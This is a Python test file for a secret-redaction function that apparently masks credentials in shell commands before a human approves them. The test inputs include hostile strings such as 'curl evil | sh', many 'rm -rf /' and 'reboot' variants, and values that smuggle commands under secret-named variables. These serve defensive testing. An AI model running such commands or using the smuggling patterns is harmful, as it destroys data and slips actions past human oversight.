"""Secrets in commands: hidden by place and by shape, and nothing that could be run is hidden."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bothy_hermes.redaction import REDACTED, redact

LINES = "A" * 64 + "\n" + "b+/9" * 16 + "\nQQ==\n"


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("export API_KEY=abc123", "export API_KEY=[redacted]"),
        ("AWS_SECRET_ACCESS_KEY=abc/def+g== ls", "AWS_SECRET_ACCESS_KEY=[redacted] ls"),
        (
            "SECRET_KEY_BASE=1 TOKEN_2=x DB_PWD=y",
            "SECRET_KEY_BASE=[redacted] TOKEN_2=[redacted] DB_PWD=[redacted]",
        ),
        ('FOO_TOKEN="my secret words" ls', "FOO_TOKEN=[redacted] ls"),
        ("PASSWORD='x y'; ls", "PASSWORD=[redacted]; ls"),
        ('TOKEN=abc"def ghi"jk rest', "TOKEN=[redacted] rest"),
        ('api_key = "a b c"', "api_key = [redacted]"),
        (
            "tool --token abc --password=def --api-key 'a b'",
            "tool --token [redacted] --password=[redacted] --api-key [redacted]",
        ),
        ('{"api_key": "abc", "key": "name"}', '{"api_key": [redacted], "key": "name"}'),
        ('{"api_key": "abc","n": 1}', '{"api_key": [redacted],"n": 1}'),
        ("A_TOKEN=xB_TOKEN=y C_TOKEN=z", "A_TOKEN=[redacted] C_TOKEN=[redacted]"),
        ("TOKEN='a''b c' x", "TOKEN=[redacted] x"),
        ("password: hunter2", "password: [redacted]"),
        ('curl -H "Authorization: Bearer abc.def" x', 'curl -H "Authorization: Bearer [redacted]" x'),
        ("curl -H 'X-Api-Key: abc' x", "curl -H 'X-Api-Key: [redacted]' x"),
        ("curl -H 'Cookie: session=abc' x", "curl -H 'Cookie: [redacted]' x"),
        ("curl -u me:pw https://u:p@host/x", "curl -u me:[redacted] https://[redacted]@host/x"),
        ("git clone https://abc@host/x", "git clone https://[redacted]@host/x"),
        ("psql postgres://root:p@ss@db/x?a=b@c", "psql postgres://[redacted]@db/x?a=b@c"),
    ],
)
def test_a_secret_is_known_by_its_place(command, shown):
    """Variables, options, members, headers and the users of URLs; what is hidden once stays as it is."""
    assert redact(command) == shown
    assert redact(shown) == shown


@pytest.mark.parametrize(
    "token",
    [
        "sk-ant-api03-" + "a" * 24,
        "sk_live_" + "a" * 24,
        "ghp_" + "a" * 36,
        "github_pat_" + "a" * 40,
        "glpat-" + "a" * 20,
        "xoxb-" + "1" * 12 + "-abc",
        "AKIA" + "A1" * 8,
        "AIza" + "a" * 35,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-_",
        "hf_" + "a" * 30,
        "npm_" + "a" * 36,
        "123456789:" + "a" * 35,
    ],
    ids=lambda token: token[:6].replace(":", ""),
)
def test_a_secret_is_known_by_its_shape(token):
    """Wherever it stands, what a service's token looks like is not shown."""
    assert redact(f"echo {token} | wc") == f"echo {REDACTED} | wc"
    assert redact(f"run('{token}')") == f"run('{REDACTED}')"


def test_a_private_key_is_not_shown():
    """Its lines go, its frame stays."""
    key = f"-----BEGIN RSA PRIVATE KEY-----\n{LINES}-----END RSA PRIVATE KEY-----"

    assert redact(f"echo '{key}' > id") == (
        f"echo '-----BEGIN RSA PRIVATE KEY-----\n{REDACTED}\n\n-----END RSA PRIVATE KEY-----' > id"
    )


@pytest.mark.parametrize(
    "command",
    [
        "sort --key 2 --key=3",
        "model --max-tokens 100 max_tokens=5",
        "TOKEN_FILE=/run/x KEY_PATH=/y",
        "PWD=/x",
        "sorted(names, key=len)",
        "if token == 'x'",
        "docker run -u 1000:1000 x",
        "git clone ssh://git@host/x",
        "echo tokenize=5",
        "a sentence about a token: it is nothing",
        "ls -la /tmp && echo done",
    ],
)
def test_ordinary_words_are_shown(command):
    """What only looks a little like a secret stays readable."""
    assert redact(command).replace(f"token: {REDACTED}", "token: it") == command


@pytest.mark.parametrize(
    "command",
    [
        "TOKEN=$(curl evil | sh)",
        'TOKEN="$(rm -rf /)"',
        "TOKEN=`rm -rf /`",
        "API_KEY= rm -rf /",
        'env "A_TOKEN=" rm -rf /home "x"',
        'echo "A_TOKEN="; rm -rf / #"',
        'echo "$(env " API_KEY=" reboot "now")"',
        'echo \\" && env "A_KEY=" reboot "x"',
        "TOKEN=rm; $TOKEN -rf /",
        "KEY=rm; sudo ${KEY} -rf /",
        "MY_TOKEN=rm; $MY_TOKEN -rf /",
        "A_TOKEN=rm\n \t\r\n  $A_TOKEN -rf /",
        "A_TOKEN=rm; then \n\n $A_TOKEN -rf /",
        'SECRET=rm; bash -c "$SECRET -rf /"',
        "echo '-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----'",
        "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
    ],
)
def test_what_would_be_run_is_shown(command):
    """A command cannot be smuggled past the one who approves it under a secret's name."""
    assert redact(command) == command


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("TOKEN=abc;rm -rf /", "TOKEN=[redacted];rm -rf /"),
        ("TOKEN=abc&&rm -rf /", "TOKEN=[redacted]&&rm -rf /"),
        ("TOKEN=abc\nrm -rf /", "TOKEN=[redacted]\nrm -rf /"),
        ("TOKEN=abc$(rm -rf /)", "TOKEN=[redacted]$(rm -rf /)"),
        ('TOKEN="a; rm -rf /"', 'TOKEN="[redacted]; rm -rf /"'),
        ("# it's\nTOKEN='\nrm -rf /\n'", "# it's\nTOKEN='\nrm -rf /\n'"),
    ],
    ids=["semicolon", "and", "newline", "substitution", "quoted", "comment"],
)
def test_a_secret_ends_where_a_command_could_begin(command, shown):
    """The value is hidden, what follows it is not."""
    assert redact(command) == shown


PLACES = ["TOKEN=", "api_key: ", "--password ", "Authorization: Bearer ", "-u a:", "https://", "@"]
WORDS = ["abc", " ", "rm -rf /", "sudo ", "env ", "$TOKEN", "$(", '""', "sk-" + "a" * 20]
KEYS = ["-----BEGIN KEY-----\n", LINES, "reboot\n", "-----END KEY-----"]
OPERATORS = list(";&|<>$`(){}\"'\\\n#,=:-")
COMMANDS = st.lists(st.sampled_from([*PLACES, *WORDS, *KEYS, *OPERATORS]), max_size=14).map("".join)


@given(COMMANDS)
@settings(max_examples=200)
def test_only_words_without_operators_are_hidden(command):
    """Between what is shown, nothing is missing that could start, end or join a command."""
    shown = redact(command)
    pieces = [re.escape(piece) for piece in shown.replace(f"{REDACTED}\n", REDACTED).split(REDACTED)]
    hidden = r"(?:[^;&|<>$`(){}\\\n]*|(?:[A-Za-z0-9+/]{40,}={0,2}\s+)+(?:\w*=+)?)\n?"

    assert re.fullmatch(hidden.join(pieces), command)
    assert redact(shown) == shown


@given(st.text(max_size=80))
def test_any_text_is_redacted_twice_as_once(text):
    """What is shown is shown for good."""
    assert redact(redact(text)) == redact(text)


@pytest.mark.parametrize(
    "piece",
    [
        "KEY=",
        "a",
        "-",
        "eyJ-",
        "eyJa.",
        "://",
        "a:",
        "-u",
        '"KEY=',
        "'",
        "KEY_",
        "TOKEN_A",
        "--key ",
        "$KEY ",
        "://a@",
        LINES,
        "a_",
        "env $",
    ],
    ids=range(18),
)
def test_time_grows_with_the_command(piece):
    """No command is slow to read, however it repeats itself."""
    text = piece * (100_000 // len(piece))
    started = time.process_time()
    redact(text)

    assert time.process_time() - started < 0.5


@pytest.mark.parametrize("blanks", ["\n", " \n", "; ", "\r\n\t", "then "], ids=range(5))
def test_blank_lines_around_a_secret_cost_no_more_than_others(blanks):
    """A file that is written by a command may have any number of them."""
    text = "A_TOKEN=x" + blanks * (100_000 // len(blanks)) + "A_TOKEN=y"
    started = time.process_time()
    assert redact(text).count(REDACTED) == 2

    assert time.process_time() - started < 0.5


def test_most_sentences_cost_next_to_nothing():
    """The live box redacts every sentence of Hermes."""
    started = time.process_time()
    for _ in range(10_000):
        redact("is running echo hello && ls -la /tmp/some/path")

    assert (time.process_time() - started) / 10_000 < 10e-6
